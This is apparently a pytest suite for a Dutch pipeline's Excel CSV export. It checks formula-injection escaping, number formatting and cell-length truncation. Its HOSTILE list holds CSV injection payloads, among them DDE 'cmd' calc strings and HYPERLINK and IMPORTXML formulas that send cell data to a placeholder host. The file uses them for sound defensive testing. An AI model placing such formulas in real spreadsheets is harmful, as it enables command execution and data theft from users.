"""Tables for a Dutch Excel: nothing begins like a formula, numbers stay numbers, the text is whole or says that it is not."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from collections.abc import Sequence

import pytest
from coalitie.pipeline import excel
from coalitie.pipeline.excel import LONGEST_CELL, excel_files, excel_note
from coalitie.pipeline.formats import table_text
from coalitie.pipeline.records import Label, Source
from coalitie.pipeline.rows import EntityRow, ErrorRow, Row, columns
from hypothesis import given
from hypothesis import strategies as st

# The payloads of the OWASP page on CSV injection and their relatives
HOSTILE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    '=HYPERLINK("http://lek.example?x="&A1&A2,"klik hier")',
    '=IMPORTXML(CONCAT("http://lek.example?v=", A2:E2), "//a")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "+31 6 12345678",
    "-2+3+cmd|' /C calc'!D2",
    "-5",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tgewone tekst",
    "\r\ngewone tekst",
    " =1+1",
    "\u00a0\u2003@SUM(A1)",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\x1b+1",
    "\ufe0f=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "　＠SUM(A1)",
    "﹦1+1",
    "−1+1",
]
HARMLESS = [
    "Gemeente Kruisdal",
    "'t Huis",
    "",
    " ",
    "a=b",
    "06-12345678",
    "3-4",
    "(=1)",
    "• = punt",
    "– eten met buren",
    "post@kruisdal.example",
    "1;2,3",
    'zij zei "ja"',
    "regel een\nregel twee\r\n- regel drie",
    "\"=1+1",
]  # fmt: skip


def cells(row_type: type[Row], rows: Sequence[Row]) -> list[list[str]]:
    """The rows as a reader with Dutch settings sees them, without the header."""
    data = excel_files([(row_type, rows)])[f"excel/{row_type.NAME}.csv"]
    header, *read = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";", strict=True)
    assert header == [column.name for column in columns(row_type)]
    return read


def error(message: str | None) -> ErrorRow:
    return ErrorRow("kruisdal.txt", "reading", "E", message)


def entity(text: str, value: str | None = None, start: int = 3, confidence: float = 0.98765) -> EntityRow:
    return EntityRow(
        "k.e01", "k", "k.s00", Label.COUNT, text, value, None, None, None, start, 9, confidence, Source.RULE
    )


def begins_dangerously(cell: str) -> bool:
    """Told in another way than the module does it: what is left once all that cannot be seen is gone."""
    seen = "".join(c for c in cell if not unicodedata.category(c).startswith(("Z", "C", "M")))
    return cell[:1] in {"\t", "\r", "\n"} or seen[:1] in set("=+-@＝＋－＠﹦﹢﹣﹫−")


@pytest.mark.parametrize("text", HOSTILE)
def test_what_begins_like_a_formula_gets_an_apostrophe(text: str) -> None:
    assert cells(ErrorRow, [error(text)]) == [["kruisdal.txt", "reading", "E", f"'{text}"]]


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert cells(ErrorRow, [error(text)]) == [["kruisdal.txt", "reading", "E", text]]


@given(st.lists(st.text(), min_size=1))
def test_no_cell_begins_dangerously_and_no_text_is_lost(texts: list[str]) -> None:
    read = cells(ErrorRow, [error(text) for text in texts])
    assert not [cell for row in read for cell in row if begins_dangerously(cell)]
    assert [row[3].removeprefix("'") for row in read] == [text.removeprefix("'") for text in texts]


@given(st.text(st.sampled_from("=+-@＝－\t\r\n ;\",'\u200b\ufeffa1"), max_size=8))
def test_no_mix_of_the_signs_that_matter_begins_dangerously(text: str) -> None:
    [row] = cells(ErrorRow, [error(text)])
    assert not begins_dangerously(row[3])
    assert row[3] in {text, f"'{text}"}


@given(st.integers(), st.floats(allow_nan=False, allow_infinity=False, width=32))
def test_numbers_stay_numbers(start: int, confidence: float) -> None:
    [row] = cells(EntityRow, [entity("twintig", start=start, confidence=confidence)])
    assert int(row[9]) == start
    assert float(row[11].replace(",", ".")) == pytest.approx(confidence, abs=0.0001)
    assert "." not in row[11]


def test_a_number_is_not_in_quotes_and_has_a_decimal_comma() -> None:
    data = excel_files([(EntityRow, [entity("tien", value="-10", start=-3, confidence=-0.5)])])["excel/entities.csv"]
    assert data.decode("utf-8-sig").endswith(';"tien";"\'-10";;;;-3;9;-0,5;"rule"\r\n')


def test_text_in_a_numeric_column_is_no_number() -> None:
    [row] = cells(EntityRow, [entity("tien", start="-3+cmd")])  # type: ignore[arg-type]
    assert row[9] == "'-3+cmd"


def test_the_bytes_are_what_excel_writes_itself() -> None:
    files = excel_files([(ErrorRow, [error("één\ntwee")]), (EntityRow, [])])
    assert list(files) == ["excel/errors.csv", "excel/entities.csv"]
    assert files["excel/errors.csv"] == (
        b'\xef\xbb\xbf"source";"stage";"error";"message"\r\n"kruisdal.txt";"reading";"E";"'
        + "één\ntwee".encode()
        + b'"\r\n'
    )
    assert files["excel/entities.csv"].count(b"\r\n") == 1


def test_the_canonical_table_stays_raw() -> None:
    rows = [error("=1+1")]
    excel_files([(ErrorRow, rows)])
    assert table_text(ErrorRow, rows).endswith(",=1+1\n")


def units(text: str) -> int:
    return len(text.encode("utf-16-le")) // 2


@pytest.mark.parametrize(
    "text",
    ["a" * (LONGEST_CELL + 1), "🌷" * (LONGEST_CELL // 2 + 1), "a" + "🌷" * LONGEST_CELL, "=" + "a" * LONGEST_CELL],
    ids=["plain", "astral", "astral at odd places", "formula"],
)
def test_a_text_too_long_for_a_cell_is_cut_and_says_so(text: str) -> None:
    [[*_, cell]] = cells(ErrorRow, [error(text)])
    kept, mark, note = cell.partition("… (cut for Excel; whole in errors.csv)")
    assert mark
    assert not note
    assert LONGEST_CELL - 1 <= units(cell) <= LONGEST_CELL
    assert text.startswith(kept.removeprefix("'"))
    assert kept.startswith("'") == text.startswith("=")


@pytest.mark.parametrize("text", ["a" * LONGEST_CELL, "🌷" * (LONGEST_CELL // 2), "=" + "a" * (LONGEST_CELL - 2)])
def test_a_text_that_just_fits_is_whole(text: str) -> None:
    [[*_, cell]] = cells(ErrorRow, [error(text)])
    assert cell.removeprefix("'") == text


def test_the_note_is_json_and_names_tables_too_long_for_a_sheet(monkeypatch: pytest.MonkeyPatch) -> None:
    assert excel_note()["tables_too_long"] == []
    monkeypatch.setattr(excel, "LONGEST_TABLE", 3)  # the header is one of them
    note = excel_note([(ErrorRow, [error("a")] * 2), (EntityRow, [entity("b")] * 3)])
    assert note["tables_too_long"] == ["entities"]
    assert json.loads(json.dumps(note)) == note
    assert note["dialect"]["delimiter"] == ";"
